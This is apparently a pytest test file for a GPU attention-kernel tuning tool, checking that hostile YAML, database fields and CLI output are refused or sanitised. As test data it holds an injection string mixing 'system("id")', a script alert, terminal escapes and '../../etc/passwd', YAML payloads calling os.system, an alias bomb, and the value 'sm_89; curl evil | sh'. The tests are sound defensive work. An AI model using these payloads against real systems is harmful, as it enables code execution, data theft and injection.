"""What comes from outside (words, YAML, a database) is a value or a sentence: never code, never a path, never a
traceback."""

import json
import re
import sqlite3
from dataclasses import replace

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from evoattn.cli.main import app
from evoattn.export.check import export_source
from evoattn.families.registry import FAMILIES
from evoattn.families.render import render
from evoattn.model import gpu, safe_yaml
from evoattn.model.named_problems import parse_shape
from evoattn.model.problem import AttentionProblem, ProblemError
from evoattn.model.records import CompileInfo, Evaluation, TrialState
from evoattn.model.space import ConfigError, KernelConfig, load_space
from evoattn.search.budget import BudgetError, parse_budget
from evoattn.search.reproduce import ReproduceError, reproduce
from evoattn.storage import Storage, StorageError
from evoattn.storage.chosen import trial_number
from evoattn.storage.rows import study_from_row, timing_from_row, trial_from_row

SHAPE_WORDS = st.text(alphabet="BHSDqkv=,0123456789dtypefloat16mask _-.e\n\"'\x1b", max_size=60)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
EVIL = '"; system("id"); //\n*/ </script><script>alert(1)</script>\x1b]0;x\x07 ../../etc/passwd'
PROBLEM = AttentionProblem(1, 1, 1, 64, 64, 16, name="small")


@given(st.text(max_size=40) | SHAPE_WORDS)
def test_shapes_budgets_gpus_and_trial_numbers(text):
    for parse, error in (
        (parse_shape, ProblemError),
        (parse_budget, BudgetError),
        (gpu.lookup, gpu.GpuError),
        (trial_number, StorageError),
    ):
        try:
            parse(text)
        except error as refusal:
            assert str(refusal)


@given(st.text(max_size=80) | st.text(alphabet="abc:[]{}&*!-|>#? \n\t0123'\"<", max_size=80))
def test_yaml_is_plain_values_or_a_refusal(text):
    try:
        value = safe_yaml.load(text)
    except yaml.YAMLError:
        return
    plain = lambda v: type(v).__module__ == "datetime" or isinstance(v, (bytes, set))  # noqa: E731
    json.dumps(value, default=lambda v: None if plain(v) else pytest.fail(repr(v)), skipkeys=True)


BOMB = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system [id]",
        "!!python/name:os.system",
        BOMB,
        "a: 1\na: 2",
        "a: {b: 1, b: 2}",
        "[" * 5000,
        "&a [*a]",
        "x: &a [1]\ny: [" + "*a, " * 1001 + "]",
        "a: " + "x" * (1 << 20),
        "2026-13-45",
        "? [a]\n: b",
    ],
    ids=[
        "apply",
        "name",
        "bomb",
        "twice",
        "twice inside",
        "deep",
        "itself",
        "many aliases",
        "long",
        "date",
        "list as key",
    ],
)
def test_hostile_yaml_is_refused(tmp_path, text):
    with pytest.raises(yaml.YAMLError):
        safe_yaml.load(text)
    (tmp_path / "evil.yaml").write_text(text)
    with pytest.raises(ConfigError, match="cannot be read"):
        load_space("evil", gpu.GPUS["l4"], tmp_path)


@pytest.mark.parametrize(
    "text",
    [
        "parameters: {A: {values: [[1]], meaning: x}}",
        "parameters: {'A;B': {values: [1], meaning: x}}",
        "parameters: {A: {values: [], meaning: x}}",
        "parameters: {A: {values: [1], meaning: x}}\nstarting_configs: [7]",
        "parameters: {A: {values: [1], meaning: x}}\nstarting_configs: [{config: [1]}]",
        "7",
        "",
    ],
)
def test_a_space_of_another_form_is_refused(tmp_path, text):
    (tmp_path / "odd.yaml").write_text(text)
    with pytest.raises(ConfigError, match="cannot be read"):
        load_space("odd", gpu.GPUS["l4"], tmp_path)


SPACE = load_space("flash_scalar", gpu.GPUS["l4"])


@given(st.dictionaries(st.sampled_from(SPACE.names()) | st.text(max_size=5), JSON, max_size=14))
def test_configs_are_of_the_space_or_refused(params):
    with pytest.raises(ConfigError):
        SPACE.make_config(params)


STUDY = {
    "id": 1,
    "name": "s",
    "problem": PROBLEM.to_dict(),
    "gpu": "l4",
    "arch": "sm_89",
    "offline": 1,
    "sampler": "genetic",
    "seed": 0,
    "families": ["flash_scalar"],
    "versions": {"evoattn": "0.1"},
    "options": {"cache": "warm"},
    "created_at": "",
}
TRIAL = {
    "number": 1,
    "study_id": 1,
    "family": "flash_scalar",
    "config": {"A": 1},
    "config_id": "x",
    "state": "TIMEOUT",
    "reason": "",
    "relative_cost": None,
    "source_hash": None,
    "registers": None,
    "parents": [],
    "operator": "",
    "created_at": "",
    "seconds": 0.0,
    "validation": None,
}
TIMING = {"samples_us": [1.0], "protocol": {"stage": "screen"}}


@settings(max_examples=300)
@given(st.sampled_from([(study_from_row, STUDY), (trial_from_row, TRIAL), (timing_from_row, TIMING)]), st.data())
def test_rows_are_checked(reader, data):
    read, good = reader
    row = dict(good) | {
        data.draw(st.sampled_from(sorted(set(good) - {"id", "number", "study_id", "source_hash"}))): data.draw(JSON)
    }
    try:
        record = read(row, ()) if read is trial_from_row else read(row)
    except StorageError as refusal:
        assert "use another copy" in str(refusal)
        return
    assert not re.search(
        r"[\x00-\x08\x0b-\x1f]",
        f"{getattr(record, 'name', '')}{getattr(record, 'reason', '')}{getattr(record, 'operator', '')}",
    )


def test_what_a_timing_says_is_plain_text_of_its_kind():
    said = {"disqualified": EVIL, "sanitizer": {"memcheck": EVIL}, "clocks": {"absent": EVIL, "throttled_by": [EVIL]}}
    timing = timing_from_row(TIMING | {"protocol": TIMING["protocol"] | said})
    assert (
        "\x1b" not in f"{timing.protocol}{timing.disqualified}"
        and "\\x1b" not in f"{timing.protocol}"
        and timing.disqualified
    )
    for broken in ({"sanitizer": [1]}, {"clocks": "x"}, {"clocks": {"throttled_by": [1]}}):
        with pytest.raises(StorageError, match="is damaged"):
            timing_from_row(TIMING | {"protocol": TIMING["protocol"] | broken})


@pytest.fixture
def hostile(tmp_path):
    """A database with one right trial of a real source, every free text of which somebody has rewritten."""
    storage = Storage.open(str(tmp_path / "db.sqlite"))
    family, spec = FAMILIES["flash_scalar"], gpu.GPUS["l4"]
    config = SPACE.starting_configs(PROBLEM)[0]
    study = storage.create_study("s", PROBLEM, spec, True, "genetic", 0, ("flash_scalar",), {"evoattn": "0.1"}, {})
    storage.use_environment({"host": EVIL})
    candidate = render(family, PROBLEM, KernelConfig("flash_scalar", config.params), spec)
    storage.record(
        study,
        config,
        candidate,
        Evaluation(TrialState.ESTIMATED, "", CompileInfo(registers=32, compiler="NVRTC"), relative_cost=1.0),
    )
    with sqlite3.connect(storage.url.database) as plain:
        plain.execute("UPDATE trials SET reason = ?, operator = ?, compiler = ?", (EVIL,) * 3)
        plain.execute(
            "UPDATE studies SET name = ?, versions = ?, problem = ?",
            (EVIL, json.dumps({"evoattn": EVIL, "device": EVIL}), json.dumps(PROBLEM.to_dict() | {"name": EVIL})),
        )
    yield storage
    storage.close()


def test_an_export_of_a_hostile_database_is_the_kernel_and_comments(hostile):
    text = export_source(hostile, hostile.trial(1))
    outside = text.replace(hostile.source(hostile.trial(1).source_hash), "")
    for line in outside.splitlines():
        assert "system" not in line or line.startswith("// "), line
        assert not line.startswith("// ") or not line.endswith("\\")


def test_page_terminal_and_folder_of_a_hostile_database(hostile, tmp_path):
    before = sorted(tmp_path.iterdir())
    for words in (
        ("report",),
        ("report", "--full"),
        ("studies",),
        ("report", "--format", "html"),
        ("report", "--format", "json"),
        ("show", "1"),
        ("show", "1", "--source"),
        ("export", "1"),
        ("reproduce", "1"),
    ):
        result = CliRunner().invoke(app, [*words, "--db", str(tmp_path / "db.sqlite")])
        assert result.exception is None or isinstance(result.exception, SystemExit), (words, result.exception)
        assert "\x1b" not in result.output and "\x07" not in result.output, words
        assert "html" not in words or "<script>alert" not in result.output
    assert sorted(p for p in tmp_path.iterdir() if "sqlite-" not in p.name) == [
        p for p in before if "sqlite-" not in p.name
    ]


def test_a_source_that_no_template_renders_runs_only_on_request(hostile):
    study, trial = hostile.latest_study(), hostile.trial(1)
    other = render(FAMILIES["flash_scalar"], PROBLEM, SPACE.starting_configs(PROBLEM)[0], gpu.GPUS["l4"])
    changed = type(other)(
        other.family, other.config, other.config_id, other.source + "\n// one more line\n", other.arch
    )
    compiled = CompileInfo(registers=32, compiler="NVRTC")
    foreign_result = Evaluation(TrialState.ESTIMATED, "", compiled, relative_cost=1.0)
    foreign = hostile.record(study, KernelConfig(trial.family, trial.config), changed, foreign_result)
    with pytest.raises(ReproduceError, match=r"renders another text .* was not run: .* --trust-source"):
        reproduce(hostile, foreign, study)
    found = {f.what: f.sentence for f in reproduce(hostile, foreign, study, trust_source=True).findings}
    assert "Right in all" in found["answers"] and "another text" in found["source"]
    assert "the same machine code" in found["code"]
    empty = replace(changed, source='extern "C" __global__ void flash_scalar() {}\n')
    foreign = hostile.record(study, KernelConfig(trial.family, trial.config), empty, foreign_result)
    found = {f.what: f.sentence for f in reproduce(hostile, foreign, study, trust_source=True).findings}
    assert "other machine code" in found["code"]


@pytest.mark.parametrize(
    "column, value", [("arch", "sm_89; curl evil | sh"), ("arch", "sm_89 -I/"), ("options", '{"cache": "x"}')]
)
def test_words_that_reach_a_command_line_are_checked(hostile, column, value):
    with sqlite3.connect(hostile.url.database) as plain:
        plain.execute(f"UPDATE studies SET {column} = ?", (value,))
    with pytest.raises(StorageError, match="is damaged"):
        hostile.latest_study()
